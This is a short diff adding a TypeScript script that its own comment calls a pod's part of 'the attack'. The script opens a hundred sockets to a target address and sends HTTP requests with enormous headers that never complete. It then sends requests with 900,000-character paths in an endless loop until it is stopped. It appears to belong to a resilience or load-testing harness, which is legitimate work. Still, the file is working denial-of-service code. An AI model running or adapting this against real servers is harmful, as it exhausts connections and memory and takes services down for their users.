@@ -1,0 +1,22 @@
+/**
+ * A pod's part of the attack (objects.ts): a hundred requests whose headers never end, and requests with long paths to what
+ * fails, over and over, until SIGTERM.
+ */
+
+import { connect } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+import { failingVip } from './objects.ts'
+
+const unfinished = Array.from({ length: 15 }, (_, i) => `X-${i}: ${'y'.repeat(64_000)}\r\n`).join('')
+const long = `GET /${'p'.repeat(900_000)} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`
+
+function send(text: string): Promise<void> {
+  return new Promise(resolve => {
+    const socket = connect(80, failingVip, () => socket.write(text))
+    socket.on('error', () => undefined).on('close', () => resolve())
+    socket.resume()
+  })
+}
+
+for (let i = 0; i < 100; i++) void send(`GET / HTTP/1.1\r\nHost: a\r\n${unfinished}`)
+for (;;) await Promise.race([send(long), sleep(25)])
